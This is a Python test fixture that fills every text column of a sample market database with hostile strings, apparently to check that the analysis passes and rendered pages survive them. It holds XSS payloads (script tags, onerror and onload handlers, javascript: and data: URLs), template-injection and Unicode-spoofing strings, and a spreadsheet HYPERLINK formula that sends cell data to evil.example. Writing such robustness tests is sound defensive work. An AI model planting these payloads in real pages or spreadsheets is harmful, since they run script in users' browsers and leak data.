"""The sample market with the worst a page could hold in every text column of every table.

Tables and columns are read from the database, so a table of tomorrow is poisoned too.
"""

import json
import re
import sqlite3
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from analysis.passes import summaries
from tests.analysis import sample_db

WORD = "w" * 100_000
DEEP = "[" * 400 + '"x"' + "]" * 400
_LONG_ROWS = 2
"""How many rows of a column hold a text of full length; the others hold its beginning."""


@dataclass(frozen=True, slots=True, kw_only=True)
class Attack:
    """``text`` stands in every column; ``raw`` is put before it as bytes that are no UTF-8;
    ``fake`` takes the place of JSON as it is, otherwise only the texts within JSON change.
    """

    name: str
    text: str
    raw: bytes = b""
    fake: bool = False


ATTACKS = (
    Attack(name="script", text="<script>window.__pwned = 1;alert(1)</script>"),
    Attack(name="attribute", text="\"'><img src=x onerror=window.__pwned=1><a href=\"'` autofocus "
           "onfocus=window.__pwned=1 x="),
    Attack(name="link", text="javascript:window.__pwned=1//"),
    Attack(name="data", text="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+"),
    Attack(name="outside", text="https://evil.example/\"onmouseover='window.__pwned=1'//\u202ex"),
    Attack(name="style", text="</style><style>*{display:none}</style>*{position:fixed}"),
    Attack(name="markup", text="</title></textarea></table></svg><svg onload=window.__pwned=1>"
           "<!--<![CDATA[<base href=//evil.example><iframe srcdoc='<script>1'>"),
    Attack(name="template", text="{{ 7 * 191 }} {% raw %} %(x)s {0} {n} ${x} %s \\u003cscript"),
    Attack(name="bidi", text="\u202e\u2066gnp.exe\u2067\u200f\u061c \u2028\ufeff\u200b\u00ad"),
    Attack(name="word", text=WORD),
    Attack(name="formula", text='=HYPERLINK("http://evil.example?"&A1,"x")'),
    Attack(name="control", text="\x00\x01\x07\x08\x0b\x1b[31m\x7f\x85\r\n\x00"),
    Attack(name="zalgo", text="Z" + "\u0335\u0489" * 400 + "\U000e0041" * 50),
    Attack(name="surrogate", text="x", raw=b"\xed\xa0\x80\xff\xfe\xc0\xaf"),
    Attack(name="empty", text="\u3164", fake=True),
    Attack(name="json-object", text='{"name": 5, "a": [{"b": null}], "x": {"x": 1}}', fake=True),
    Attack(name="json-list", text='[null, 5, {"level": "x", "text": {}}, [[]], true]', fake=True),
    Attack(name="json-scalar", text="1e999", fake=True),
    Attack(name="json-digits", text="[" + "9" * 5_000 + "]", fake=True),
    Attack(name="json-nan", text='{"a": NaN, "b": [Infinity, -Infinity], "c": -0.0}', fake=True),
    Attack(name="json-deep", text=DEEP, fake=True),
    Attack(name="json-deeper", text="[" * 100_000, fake=True),
)  # fmt: skip

DERIVED = frozenset({"summaries", "periods", "summary_competitors", "pass_marks", "post_columns",
                     "dirty"})  # fmt: skip
"""What the passes write: poisoned after them, where a test asks for it."""

KEYS = frozenset({
    "id", "key", "competitor", "source", "forum", "subject", "claim_table", "claim_key", "field",
    "channel", "from_competitor", "to_competitor", "preferred_competitor", "other_competitor",
    "stage", "need", "budget", "authority", "engine_id", "folded", "spider", "question", "barrier",
    "posted_precision", "timezone", "gone_at", "topic", "lang", "currency", "url", "kind",
})  # fmt: skip
"""What rows are found, counted and joined by: left alone where ``keys`` is false."""
_TIME = re.compile(r"\d{4}-\d{2}-\d{2}T")


def tables(conn: sqlite3.Connection) -> list[str]:
    """Every ordinary table, but not the parts of the search index."""
    found = conn.execute(
        "SELECT name FROM sqlite_master WHERE type = 'table' AND name NOT LIKE 'sqlite_%' "
        "AND sql NOT LIKE 'CREATE VIRTUAL%' AND name NOT LIKE 'posts_fts%' ORDER BY name"
    )
    return [name for (name,) in found]


def text_columns(conn: sqlite3.Connection, table: str) -> list[str]:
    """Its columns of text, generated ones left out."""
    rows = conn.execute(f"PRAGMA table_xinfo({table})").fetchall()
    return [row[1] for row in rows if row[2] == "TEXT" and not row[6]]


def fill(conn: sqlite3.Connection) -> None:
    """A few rows in every table the sample leaves empty, so that there is something to poison."""
    for table in tables(conn):
        if table in DERIVED or conn.execute(f"SELECT 1 FROM {table}").fetchone():
            continue
        (sql,) = conn.execute("SELECT sql FROM sqlite_master WHERE name = ?", (table,)).fetchone()
        parents = {row[3]: (row[2], row[4]) for row in
                   conn.execute(f"PRAGMA foreign_key_list({table})")}  # fmt: skip
        columns = [row for row in conn.execute(f"PRAGMA table_xinfo({table})") if not row[6]]
        for number in range(6):
            row = {name: _value(conn, sql, table, name, kind, parents.get(name), number)
                   for _, name, kind, *_ in columns}  # fmt: skip
            marks = ", ".join("?" * len(row))
            conn.execute(f"INSERT OR IGNORE INTO {table} ({', '.join(row)}) VALUES ({marks})",
                         tuple(row.values()))  # fmt: skip
    conn.commit()


def _value(conn: sqlite3.Connection, sql: str, table: str, name: str, kind: str,
           parent: tuple[str, str | None] | None, number: int) -> object:  # fmt: skip
    if parent is not None or name in ("post_id", "page_id"):
        of, column = parent or ({"post_id": "posts", "page_id": "pages"}[name], "id")
        found = conn.execute(f"SELECT {column or 'id'} FROM {of} LIMIT 1 OFFSET ?", (number,))
        return (found.fetchone() or (None,))[0]
    allowed = re.search(rf"\b{name}\s[^,]*?CHECK\s*\(\s*{name}\s+IN\s*\(([^)]*)\)", sql)
    if allowed:
        words = [word.strip() for word in allowed.group(1).split(",")]
        return words[number % len(words)].strip("'")
    if kind == "TEXT":
        if name.endswith("_at") or name in ("first_seen", "last_seen"):
            return sample_db.stamp(sample_db.NOW)
        if name in ("preferred_competitor", "other_competitor", "competitor"):
            return ("liftline", "oakframe")[name.startswith("other")]
        return "[]" if name.endswith("_json") else f"{table} {number}"
    return number + 1 if kind == "INTEGER" else 1.0


def poison(conn: sqlite3.Connection, attack: Attack, *, keys: bool) -> int:
    """Put the attack in every text column that no constraint closes; how many cells took it.

    :param keys: in keys and times too: each old value becomes one new value everywhere, so that
        rows still belong together. Otherwise only what is shown.
    """
    conn.execute("PRAGMA foreign_keys = OFF")
    changed = 0
    for table in tables(conn):
        for column in text_columns(conn, table):
            if not keys and column in KEYS and not (table == "pages" and column == "url"):
                continue
            conn.create_function("hostile", 1, _maker(attack, column, keys=keys))
            raw = f"CAST(X'{attack.raw.hex()}' AS TEXT) || " if attack.raw else ""
            before = conn.total_changes
            conn.execute(
                f"UPDATE OR IGNORE {table} SET {column} = {raw}hostile({column}) "
                f"WHERE {column} IS NOT NULL" + ("" if keys else
                f" AND {column} NOT GLOB '[0-9][0-9][0-9][0-9]-[0-9][0-9]-[0-9][0-9]T*'")
            )  # fmt: skip
            changed += conn.total_changes - before
    conn.execute("INSERT INTO posts_fts (posts_fts) VALUES ('rebuild')")
    conn.commit()
    return changed


def _maker(attack: Attack, column: str, *, keys: bool) -> Callable[[str], str]:
    count = 0

    def hostile(old: str) -> str:
        nonlocal count
        count += 1
        text = attack.text
        if keys or count > _LONG_ROWS:
            text = text[:1_500]
        if column.endswith("_json"):
            return text if attack.fake else _within(old, text)
        return f"{text} {old}" if keys else f"{text} {count}"

    return hostile


def _within(old: str, text: str) -> str:
    """The same JSON with the attack for each of its texts; one more where it holds none."""
    try:
        value = json.loads(old)
    except ValueError:
        return text
    return json.dumps(_leaves(value, text) or [text])


def _leaves(value: Any, text: str) -> Any:
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [_leaves(item, text) for item in value]
    if isinstance(value, dict):
        return {key: _leaves(item, text) for key, item in value.items()}
    return value


def build(path: Path, attack: Attack, *, keys: bool) -> None:
    """The sample market, its empty tables filled, poisoned, and its answers computed.

    Bytes that are no UTF-8 come after the answers: nothing of ours can write them, so they can
    only be in a file that others changed.
    """
    conn = sample_db.sample(path, posts=68, running=True)
    fill(conn)
    if attack.raw:
        summaries.run(conn, now=sample_db.NOW)
    assert poison(conn, attack, keys=keys) > 1_000
    if not attack.raw:
        summaries.run(conn, now=sample_db.NOW)
    conn.close()
